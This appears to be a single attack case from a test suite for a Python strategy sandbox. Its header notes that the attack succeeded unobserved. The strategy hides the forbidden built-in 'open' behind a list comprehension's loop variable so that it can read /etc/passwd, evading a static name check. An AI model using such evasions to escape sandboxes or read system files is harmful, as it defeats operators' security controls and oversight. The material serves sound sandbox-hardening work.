# id: L26
# family: language
# goal: hide a forbidden name behind the target of a comprehension
# finding: PY201
# outcome: COMPLETED
# observed_by: none
# control: got-in

from glovebox import Strategy


def attack(ctx, bar):
    return [
        each("/etc/passwd").read(20)
        for each in (open,)
    ][0]


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        try:
            got = attack(ctx, bar)
        except Exception as error:
            ctx.log("REFUSED " + type(error).__name__)
            return
        if got:
            ctx.log("GOT-IN " + str(got))
